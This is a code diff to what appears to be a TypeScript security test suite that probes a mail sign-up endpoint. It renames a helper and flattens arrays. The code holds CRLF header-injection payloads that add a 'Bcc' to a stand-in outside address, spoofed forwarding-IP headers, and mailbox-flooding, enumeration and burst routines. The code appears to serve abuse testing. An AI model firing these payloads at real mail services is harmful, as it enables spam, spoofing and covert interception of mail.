@@ -1,14 +1,14 @@
 // Mail that the service is made to send: too much, to one mailbox, with headers of somebody else's choice.
 import { type Attack, type Outcome, statuses, unless } from './attack.ts';
-import { each, stranger } from './request.ts';
+import { each, freshAddress } from './request.ts';
 import { BY_KEY } from './seed.ts';
 import type { Target } from './target.ts';
 
-const signUp = (target: Target, email: string, name = 'A stranger', from = stranger()) =>
+const signUp = (target: Target, email: string, name = 'A stranger', from = freshAddress()) =>
   target.ask('/api/subs/new?calendar_id=programs', {
     method: 'POST',
     body: { name, email },
-    headers: { 'x-forwarded-for': stranger(), 'edge-connecting-ip': stranger() },
+    headers: { 'x-forwarded-for': freshAddress(), 'edge-connecting-ip': freshAddress() },
     from,
   });
 
@@ -18,12 +18,10 @@ const head = (mail: string): string => mail.split('\r\n\r\n')[0] ?? '';
 async function fillMailbox(target: Target): Promise<Outcome> {
   const spellings = [
     ...Array.from({ length: 10 }, (_, at) => `victim+${at}@mailbox.example`),
-    ...[
-      'victim@mailbox.example',
-      'Victim@MAILBOX.example',
-      ' victim@mailbox.example ',
-      'victim+@mailbox.example',
-    ],
+    'victim@mailbox.example',
+    'Victim@MAILBOX.example',
+    ' victim@mailbox.example ',
+    'victim+@mailbox.example',
   ];
   const answers = await each(spellings, (email) => signUp(target, email), 4);
   const mails = target.mails().filter((mail) => /^To: .*victim/im.test(mail)).length;
@@ -39,16 +37,12 @@ async function injectHeaders(target: Target): Promise<Outcome> {
   const names = breaks.map((end) => `A${end}Bcc: spy@evil.example${end}${end}Buy`);
   const emails = [
     ...breaks.map((end, at) => `one${at}@mailbox.example${end}Bcc: spy@evil.example`),
-    ...[
-      'a@mailbox.example,spy@evil.example',
-      'a@mailbox.example spy@evil.example',
-      '<a@mailbox.example>,<spy@evil.example>',
-    ],
-    ...[
-      '"spy@evil.example"<a@mailbox.example>',
-      'a@mailbox.example?bcc=spy@evil.example',
-      '"a\r\nBcc: spy"@mailbox.example',
-    ],
+    'a@mailbox.example,spy@evil.example',
+    'a@mailbox.example spy@evil.example',
+    '<a@mailbox.example>,<spy@evil.example>',
+    '"spy@evil.example"<a@mailbox.example>',
+    'a@mailbox.example?bcc=spy@evil.example',
+    '"a\r\nBcc: spy"@mailbox.example',
   ];
   const strangers = [
     ...(await each(names, (name, at) => signUp(target, `named${at}@mailbox.example`, name))),
@@ -105,7 +99,7 @@ async function enumerate(target: Target): Promise<Outcome> {
 /** 200 addresses in a burst: first from one client that names others, then from as many clients. */
 async function burst(target: Target): Promise<Outcome> {
   const before = target.mails().length;
-  const from = stranger();
+  const from = freshAddress();
   const one = await each(Array.from({ length: 200 }), (_, at) =>
     signUp(target, `one${at}@list.example`, 'A', from),
   );
